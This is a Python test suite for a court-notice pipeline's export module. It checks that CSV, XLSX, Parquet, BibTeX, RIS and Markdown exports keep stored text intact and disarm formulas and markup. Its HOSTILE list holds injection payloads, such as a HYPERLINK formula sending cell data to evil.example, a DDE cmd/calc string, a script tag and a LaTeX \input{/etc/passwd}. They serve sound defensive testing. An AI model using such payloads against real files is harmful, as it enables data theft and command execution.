"""What is exported is what is stored, in every format, and nothing of it is executed or half-written."""

from __future__ import annotations

import contextlib
import csv
import errno
import gc
import io
import json
import os
import re
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.utils.escape import unescape
from pyarrow import parquet
from sqlalchemy import Engine, event, insert, select
from sqlalchemy import text as sql

from crawlers.notice import PrintedDate
from pipeline.expression import read_words
from pipeline.store.health_tables import SourceHealth
from pipeline.store.tables import Item, Listed, Withdrawal
from pipeline.store.write import write_records
from query.export import rows as rows_module
from query.export.columns import COLUMNS, JOINT, pick_columns
from query.export.errors import ExportError
from query.export.rows import stream_rows, stream_stored
from query.export.tables import disarm
from query.export.whole import FORMATS, format_of, whole_file, write_export
from query.search import find_conditions
from tests.notices import make_record

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"看\")",
    "＝cmd|' /C calc'!A0",
    "+1+2",
    "＋1",
    "-2+3",
    "－2",
    "@SUM(1)",
    "＠SUM(1)",
    "\t=1+1",
    " =1+1",
    "\u200b=1+1",
    "'=1+1",
    "'quoted'",
    "_x0041_ stays",
    "a;=1+1,\"=2+2\"",
    "</title><script>alert(1)</script>",
    "} \\input{/etc/passwd} $x$ %",
    "[click](javascript:alert(1)) `x` | y",
    "ER  - \nTY  - BOOK",
]  # fmt: skip
BODY = "本院于2026年11月10日作出判决，案号（2026）最高法民再87号，赔偿9007199254740.93元，诉讼费35万元。"


@pytest.fixture
def filled(store: Engine) -> Engine:
    """One item for each hostile title, one day apart but for two without a date."""
    records = [
        make_record(
            number,
            title=title,
            body=BODY,
            dates=(PrintedDate(f"2026-11-{number:02d}", "x"),) if number > 2 else (),
        )
        for number, title in enumerate(HOSTILE, start=1)
    ]
    write_records(store, records)
    return store


def stored(engine: Engine, rows: str = "items") -> tuple[list[str], list[list[Any]]]:
    columns = pick_columns(rows, COLUMNS[rows])
    cells = stream_rows(columns, stream_stored(engine, [], body=True), rows)
    return [column.name for column in columns], list(cells)


def export(engine: Engine, format: str, rows: str = "items", **more: Any) -> bytes:
    file = io.BytesIO()
    columns = list(COLUMNS[rows]) if format in ("csv", "xlsx", "jsonl", "parquet") else None
    more = {"columns": columns, **more}
    count = write_export(engine, [], file, format=format, rows=rows, **more)
    assert count >= 0
    return file.getvalue()


def flat(cell: Any) -> Any:
    return JOINT.join(cell) if isinstance(cell, list) else cell


@pytest.mark.parametrize("rows", ["items", "facts"])
def test_json_lines_and_parquet_hold_what_is_stored_with_its_types(filled: Engine, rows: str) -> None:
    names, cells = stored(filled, rows)
    wanted = [dict(zip(names, row, strict=True)) for row in cells]
    assert len(wanted) >= len(HOSTILE)
    assert [json.loads(line) for line in export(filled, "jsonl", rows).split(b"\n")[:-1]] == wanted
    assert parquet.read_table(io.BytesIO(export(filled, "parquet", rows))).to_pylist() == wanted


@pytest.mark.parametrize("rows", ["items", "facts"])
def test_csv_gives_every_text_back_and_begins_none_like_a_formula(filled: Engine, rows: str) -> None:
    names, cells = stored(filled, rows)
    text = export(filled, "csv", rows).decode("utf-8-sig")
    head, *read = csv.reader(io.StringIO(text, newline=""))
    assert head == names
    for got, row in zip(read, cells, strict=True):
        for cell, value in zip(got, row, strict=True):
            wanted = flat(value)
            if isinstance(wanted, str):
                assert cell.removeprefix("'") == (wanted.removeprefix("'") if cell == wanted else wanted)
                assert not re.match(r"[\s\u200b]*[=+\-@＝＋－＠]", cell), cell
            else:
                assert cell == ("" if wanted is None else str(wanted).lower())


@pytest.mark.parametrize("rows", ["items", "facts"])
def test_xlsx_holds_every_text_as_text_and_no_formula(filled: Engine, rows: str) -> None:
    names, cells = stored(filled, rows)
    sheet = openpyxl.load_workbook(io.BytesIO(export(filled, "xlsx", rows))).active
    head, *read = sheet.iter_rows()
    assert [cell.value for cell in head] == names
    for got, row in zip(read, cells, strict=True):
        for cell, value in zip(got, row, strict=True):
            wanted = flat(value)
            # openpyxl leaves the file format's own escapes (_x005F_) to its caller.
            read_back = unescape(cell.value) if isinstance(cell.value, str) else cell.value
            assert read_back == (None if wanted == "" else wanted), wanted
            assert cell.data_type in {str: "sn", bool: "b", int: "n", float: "n"}.get(type(wanted), "n")
            assert cell.data_type != "f"
            assert cell.hyperlink is None
            if isinstance(wanted, str) and wanted.startswith(("=", "＝", "+", "@", "-")):
                assert cell.quotePrefix


@pytest.mark.parametrize("title", [title for title in HOSTILE if disarm(title) != title])
def test_what_is_disarmed_loses_nothing(title: str) -> None:
    assert disarm(title).removeprefix("'") == title


def test_what_is_no_formula_is_left_alone() -> None:
    for text in ("", "商标", "（2026）最高法民再87号", "a=b", "2026-11-18", "5%"):
        assert disarm(text) == text


def test_sums_are_exact_as_text_and_numbers_beside(filled: Engine) -> None:
    lines = [json.loads(line) for line in export(filled, "jsonl").splitlines()]
    assert {line["largest_cny"] for line in lines} == {"9007199254740.93"}
    assert all(line["largest_cny_number"] == float(Decimal("9007199254740.93")) for line in lines)
    assert all(line["amounts"] == ["9007199254740.93 CNY", "350000 CNY"] for line in lines)


def test_every_date_has_its_precision_and_an_unknown_one_says_so(filled: Engine) -> None:
    lines = [json.loads(line) for line in export(filled, "jsonl").splitlines()]
    assert {(line["published"] is None, line["published_precision"]) for line in lines} == {
        (True, "unknown"),
        (False, "day"),
    }
    assert {(*line["decided"], *line["decided_precision"]) for line in lines} == {("2026-11-10", "day")}


def test_a_time_is_exported_as_exactly_as_it_was_printed(store: Engine) -> None:
    write_records(store, [make_record(1, dates=(PrintedDate("2026-11-19 10:05", "x"),))])
    (line,) = map(json.loads, export(store, "jsonl").splitlines())
    assert (line["published"], line["published_precision"]) == ("2026-11-19T10:05+08:00", "minute")


def test_origin_is_exported_with_every_item_and_fact(filled: Engine) -> None:
    for rows in ("items", "facts"):
        for line in map(json.loads, export(filled, "jsonl", rows, columns=None).splitlines()):
            assert line["source"] == "court_spc_interpretations"
            assert line["url"].startswith("https://www.court.gov.cn/fabu/xiangqing/")
            assert re.fullmatch("[0-9a-f]{64}", line["snapshot_sha256"])


def test_an_edited_item_names_the_page_of_its_newest_version(store: Engine) -> None:
    write_records(store, [make_record(1)])
    edited = make_record(1, body=make_record(1).body + "\n补充：另行公布实施细则。", sha256="e" * 64)
    write_records(store, [edited])
    (line,) = map(json.loads, export(store, "jsonl").splitlines())
    assert (line["version"], line["snapshot_sha256"]) == (2, "e" * 64)


def test_the_filters_of_search_hold_and_the_newest_come_first(filled: Engine) -> None:
    conditions = find_conditions(filled.dialect.name, read_words(["SUM"]))
    file = io.BytesIO()
    assert write_export(filled, conditions, file, format="jsonl", columns=["title"]) == 2
    assert [json.loads(line)["title"] for line in file.getvalue().splitlines()] == ["＠SUM(1)", "@SUM(1)"]


def test_bibtex_lets_no_word_out_of_its_braces(filled: Engine) -> None:
    text = export(filled, "bibtex").decode()
    assert text.count("@online{") == len(HOSTILE)
    for entry in text.split("\n\n")[:-1]:
        depth = 0
        for mark in re.findall(r"\\.|[{}]", entry):
            depth += {"{": 1, "}": -1}.get(mark, 0)
            assert depth >= 0
        assert depth == 0
        assert set(re.findall(r"\\[a-z]+", entry)) <= {
            r"\textbackslash",
            r"\textasciicircum",
            r"\textasciitilde",
        }


def test_ris_has_no_tag_but_its_own(filled: Engine) -> None:
    text = export(filled, "ris").decode()
    lines = [line for line in text.split("\r\n") if line]
    assert all(re.match(r"[A-Z][A-Z0-9]  - ", line) for line in lines)
    assert sum(line.startswith("TY  - ") for line in lines) == len(HOSTILE)
    assert {line for line in lines if line.startswith("TY")} == {"TY  - ELEC"}


def test_markdown_holds_no_markup_and_no_link_of_a_page(filled: Engine) -> None:
    text = export(filled, "markdown").decode()
    assert "<script>" not in text
    links = re.findall(r"(?<!\\)\]\(<([^>]*)>\)", text)
    assert len(links) == len(HOSTILE)
    assert all(link.startswith("https://www.court.gov.cn/") for link in links)
    assert not re.search(r"(?<!\\)\]\((?!<)", text)


def test_a_link_that_is_no_web_address_is_left_out_of_citations(store: Engine) -> None:
    write_records(store, [make_record(1, url="javascript:alert(1)")])
    for format in ("bibtex", "ris", "markdown"):
        assert "javascript" not in export(store, format).decode()


def test_an_export_reads_a_few_items_at_a_time(filled: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rows_module, "_CHUNK", 4)
    read = []

    def note(_connection: object, _cursor: object, statement: str, *_: object) -> None:
        read.append(statement)

    event.listen(filled, "before_cursor_execute", note)
    lines = export(filled, "jsonl").splitlines()
    assert len(lines) == len(HOSTILE)
    assert sum("FROM fact" in statement for statement in read) == -(-len(HOSTILE) // 4)


@pytest.mark.parametrize("character", ["商", "𠮷"])
def test_a_text_too_long_for_a_cell_is_cut_and_says_so(store: Engine, character: str) -> None:
    write_records(store, [make_record(1, body=character * 40_000)])
    sheet = openpyxl.load_workbook(io.BytesIO(export(store, "xlsx", columns=["body"]))).active
    value = sheet["A2"].value
    # Spreadsheets count as UTF-16 does, and call a file with a longer text damaged.
    assert 32_766 <= len(value.encode("utf-16-le")) // 2 <= 32_767
    assert value.endswith("… [cut]")


def test_more_rows_than_a_sheet_has_are_refused(filled: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("query.export.tables._XLSX_ROWS", 5)
    with pytest.raises(ExportError, match="A sheet holds 4 rows"):
        export(filled, "xlsx")


@pytest.mark.parametrize(
    ("more", "words"),
    [
        ({"format": "csv", "columns": ["titel"]}, "No column of items is called 'titel'"),
        ({"format": "csv", "columns": []}, "No column is named"),
        ({"format": "doc"}, "No format is called 'doc'"),
        ({"format": "ris", "columns": ["title"]}, "has a form of its own"),
        ({"format": "bibtex", "rows": "facts"}, "has a form of its own"),
    ],
)
def test_what_can_not_be_exported_is_refused_in_a_sentence(
    store: Engine, more: dict[str, Any], words: str
) -> None:
    with pytest.raises(ExportError, match=re.escape(words)):
        write_export(store, [], io.BytesIO(), **more)


def test_without_pyarrow_parquet_says_what_to_install(store: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(__import__("sys").modules, "pyarrow", None)
    with pytest.raises(ExportError, match="pip install 'iprwatch\\[parquet\\]'"):
        export(store, "parquet")


def test_every_format_has_an_ending(tmp_path: Path) -> None:
    endings = {"bibtex": "bib", "markdown": "md"}
    for format in FORMATS:
        assert format_of(tmp_path / f"x.{endings.get(format, format).upper()}") == format
    with pytest.raises(ExportError, match="its ending names no format"):
        format_of(tmp_path / "x")


def test_a_file_that_does_not_become_whole_leaves_the_old_one(tmp_path: Path) -> None:
    file = tmp_path / "items.csv"
    file.write_text("old")
    with pytest.raises(TypeError), whole_file(file) as half:
        half.writelines([b"half", None])  # type: ignore[list-item]
    assert [path.name for path in tmp_path.iterdir()] == ["items.csv"]
    assert file.read_text() == "old"
    with whole_file(file) as whole:
        whole.write(b"new")
    assert file.read_text() == "new"


def test_a_link_stays_and_who_may_read_a_file_may_read_the_next_one(tmp_path: Path) -> None:
    file, link = tmp_path / "kept.csv", tmp_path / "link.csv"
    file.write_bytes(b"before")
    file.chmod(0o600)
    link.symlink_to(file)
    with whole_file(link) as written:
        written.write(b"after")
    assert link.is_symlink()
    assert file.read_bytes() == b"after"
    assert file.stat().st_mode & 0o777 == 0o600


def test_what_is_no_file_is_not_replaced_by_one(tmp_path: Path) -> None:
    pipe = tmp_path / "pipe.csv"
    os.mkfifo(pipe)
    for place in (pipe, tmp_path):
        with pytest.raises(ExportError, match="it is no file"), whole_file(place):
            pass
    assert pipe.is_fifo()


@pytest.mark.parametrize("buffered", [True, False])
def test_a_workbook_on_a_full_disk_says_so_once(filled: Engine, buffered: bool) -> None:
    class Full(io.RawIOBase):
        def writable(self) -> bool:
            return True

        def write(self, _data: Any) -> int:
            raise OSError(errno.ENOSPC, "No space left on device")

    file: Any = io.BufferedWriter(Full(), 100) if buffered else Full()
    # What a ZIP file that is given up meets later would be an unraisable exception, and fail the test.
    with pytest.raises(OSError, match="No space left") as told:
        write_export(filled, [], file, format="xlsx")
    assert told.value.errno == errno.ENOSPC
    del told
    gc.collect()
    with contextlib.suppress(OSError):
        file.close()


def test_a_folder_that_is_not_there_is_named(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="can't be written"), whole_file(tmp_path / "no" / "x.csv"):
        pass


def test_views_and_columns_say_what_is_withdrawn_inserted_later_and_how_the_source_stands(
    store: Engine,
) -> None:
    write_records(store, [make_record(number) for number in (1, 2)])
    gone_at = datetime(2026, 11, 21, 2, tzinfo=UTC)
    with store.begin() as connection:
        first, second = connection.execute(select(Item.id, Item.identity).order_by(Item.id)).all()
        gone = {
            "item_id": first.id, "kind": "deleted", "detail": "x", "seen_until": gone_at, "gone_at": gone_at,
            "snapshot_sha256": "a" * 64, "confirmed_at": gone_at, "control_url": "https://example.org/",
        }  # fmt: skip
        # One that had ended before, and one that is only suspected, say nothing.
        connection.execute(
            insert(Withdrawal), [{**gone, "returned_at": gone_at}, {**gone, "returned_at": None}]
        )
        connection.execute(insert(Withdrawal).values({**gone, "item_id": second.id, "confirmed_at": None}))
        entry = {
            "address": second.identity, "url": "https://example.org/", "title": "x", "baseline": False, "told": False,
        }  # fmt: skip
        connection.execute(
            insert(Listed),
            [
                {
                    **entry,
                    "source_key": key,
                    "first_seen_at": gone_at + timedelta(hours=hours),
                    "inserted": below,
                }
                for key, hours, below in (("a", 0, None), ("b", 2, "later"), ("c", 1, "newer"))
            ],
        )
        connection.execute(
            insert(SourceHealth).values(
                source_key="court_spc_interpretations", verdict="blocked", since_on=gone_at.date(), bad_runs=1,
                troubles=1, told=False, same_runs=1,
            )
        )  # fmt: skip
    names = ("withdrawn_at", "withdrawn_kind", "inserted_at", "inserted_below", "source_verdict")
    columns = pick_columns("items", names)
    rows = [list(row) for row in stream_rows(columns, stream_stored(store, [], body=False), "items")]
    assert sorted(rows, key=str) == [
        ["2026-11-21T02:00:00+00:00", "deleted", None, None, "blocked"],
        [None, None, "2026-11-21T03:00:00+00:00", "newer", "blocked"],
    ]
    with store.connect() as connection:
        viewed = connection.execute(
            sql(
                "SELECT withdrawn_kind, inserted_below, judged_as FROM items, sources ORDER BY withdrawn_kind"
            )
        )
        assert sorted(map(tuple, viewed), key=str) == [
            ("deleted", None, "blocked"),
            (None, "newer", "blocked"),
        ]
        assert connection.scalar(sql("SELECT count(*) FROM withdrawals WHERE returned_at IS NULL")) == 2
